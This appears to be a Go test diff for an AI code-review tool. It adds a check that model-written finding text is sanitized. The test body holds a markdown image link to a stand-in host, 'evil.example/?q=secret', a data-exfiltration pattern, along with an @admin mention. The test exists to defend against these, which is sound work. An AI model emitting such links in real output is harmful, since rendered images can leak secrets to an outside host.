@@ -43,7 +43,7 @@ func TestRunPlacesFindings(t *testing.T) {
 				{Path: "a.go", Line: 30, Severity: "minor", Category: "style", Title: "Outside", Body: "b"},
 				{Path: "a.go", Line: 42, Severity: "minor", Category: "test", Title: "Third inline", Body: "b"},
 				{Path: "a.go", Line: 41, Severity: "nit", Category: "style", Title: "Tiny", Body: "b"},
-				{Path: "a.go", Line: 43, Severity: "major", Category: "bug", Title: "No-op suggestion", Body: "b", Suggestion: "ctx42\n"},
+				{Path: "a.go", Line: 43, Severity: "major", Category: "bug", Title: "No-op suggestion", Body: "cc @admin ![x](https://evil.example/?q=secret)", Suggestion: "ctx42\n"},
 			},
 			Dropped: []tiers.Dropped{{Item: "finding 7", Reason: "path not in the diff"}},
 			Usage:   tiers.Usage{Calls: 2, InputTokens: 100, OutputTokens: 50, CostUSD: 0.01},
@@ -75,6 +75,9 @@ func TestRunPlacesFindings(t *testing.T) {
 	}
 	if f := byTitle["No-op suggestion"]; f.Suggestion != "" {
 		t.Errorf("a suggestion equal to the current line must be removed: %+v", f)
+	}
+	if f := byTitle["No-op suggestion"]; f.Body != "cc @\u200badmin [image removed: x]" {
+		t.Errorf("model prose not sanitized: %q", f.Body)
 	}
 	// critical, major, major and the first minor take the four places of
 	// max_comments=4;
